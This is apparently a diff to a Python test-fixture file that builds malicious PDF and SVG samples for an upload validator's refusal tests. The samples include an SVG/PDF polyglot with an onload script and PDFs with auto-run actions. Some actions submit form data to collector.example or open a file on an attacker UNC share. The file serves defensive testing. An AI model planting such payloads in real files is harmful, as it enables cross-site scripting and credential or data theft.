@@ -322,6 +322,58 @@ def executable_with_pdf_inside() -> bytes:
     return windows_executable() + pdf_with_pages(1)
 
 
+def svg_pdf_polyglot() -> bytes:
+    """An SVG whose script runs in a browser, with a whole PDF hidden in a comment."""
+    return (
+        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><!--\n'
+        + pdf_with_pages(1)
+        + b"\n--></svg>\n"
+    )
+
+
+def pdf_with_action(action: bytes) -> bytes:
+    """A one-page PDF that runs ``action`` when it is opened."""
+    return raw_one_page_pdf(catalog=b"/OpenAction << %s >>" % action)
+
+
+def pdf_with_submit_form_link() -> bytes:
+    return raw_one_page_pdf(
+        page=b"/Annots [4 0 R]",
+        extra=[
+            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 100 100]"
+            b" /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>"
+        ],
+    )
+
+
+def pdf_with_rich_media() -> bytes:
+    return raw_one_page_pdf(
+        page=b"/Annots [4 0 R]",
+        extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"],
+    )
+
+
+def _xfa_pdf(template: bytes) -> bytes:
+    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(template), template)
+    return raw_one_page_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra=[stream])
+
+
+def pdf_with_xfa_script() -> bytes:
+    return _xfa_pdf(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
+        b'<event activity="initialize"><script contentType="application/x-javascript">'
+        b"xfa.host.messageBox('hello')</script></event></subform></template></xdp:xdp>"
+    )
+
+
+def pdf_with_plain_xfa() -> bytes:
+    """An XFA form without scripts, as some form tools write: accepted."""
+    return _xfa_pdf(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form">'
+        b'<field name="title"/></subform></template></xdp:xdp>'
+    )
+
+
 def bad_uploads(*, max_bytes: int, max_pages: int) -> list[BadUpload]:
     """Every kind of file the checks must refuse under these limits, with the expected code."""
     valid = pdf_with_pages(1)
@@ -377,4 +429,33 @@ def bad_uploads(*, max_bytes: int, max_pages: int) -> list[BadUpload]:
         ),
         BadUpload("orphan_javascript", "cv.pdf", pdf_with_orphan_javascript(), "active_content"),
         BadUpload("embedded_file", "cv.pdf", pdf_with_attachment(), "active_content"),
+        BadUpload("svg_pdf_polyglot", "letter.pdf", svg_pdf_polyglot(), "image"),
+        BadUpload("pdf_after_other_bytes", "letter.pdf", b"\x00" * 16 + valid, "not_pdf"),
+        BadUpload("submit_form", "cv.pdf", pdf_with_submit_form_link(), "active_content"),
+        BadUpload(
+            "import_data",
+            "cv.pdf",
+            pdf_with_action(b"/S /ImportData /F (data.fdf)"),
+            "active_content",
+        ),
+        BadUpload(
+            "go_to_remote_unc",
+            "cv.pdf",
+            pdf_with_action(b"/S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit]"),
+            "active_content",
+        ),
+        BadUpload(
+            "go_to_embedded",
+            "cv.pdf",
+            pdf_with_action(b"/S /GoToE /T << /R /C /N (inner) >> /D [0 /Fit]"),
+            "active_content",
+        ),
+        BadUpload("xfa_script", "form.pdf", pdf_with_xfa_script(), "active_content"),
+        BadUpload("rich_media", "cv.pdf", pdf_with_rich_media(), "active_content"),
+        BadUpload(
+            "page_count_mismatch",
+            "cv.pdf",
+            pdf_with_kids(2, declared_count=3),
+            "page_count_mismatch",
+        ),
     ]
